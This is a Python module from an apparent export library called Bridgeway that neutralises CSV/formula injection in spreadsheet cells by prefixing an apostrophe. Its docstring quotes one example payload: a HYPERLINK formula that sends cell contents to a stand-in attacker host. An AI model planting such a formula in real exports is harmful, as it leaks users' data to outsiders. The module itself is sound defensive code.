"""Cells that a spreadsheet program will show, never run.

Every CSV or Excel file Bridgeway writes passes its cells through here (one helper, so a new
export cannot forget): a text cell beginning with = + - @ tab or carriage return is what
Excel, LibreOffice and Google Sheets take for a formula (CSV injection, e.g.
`=HYPERLINK("http://evil.example/?"&A1)` in a name). Such a cell gets a leading apostrophe,
which spreadsheets read as "this is text" and hide. Numbers are left alone: -3 is data.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas is loaded by the exports that pass a frame, not by every import
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text columns are neutralised (numeric and date columns are untouched)."""
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out
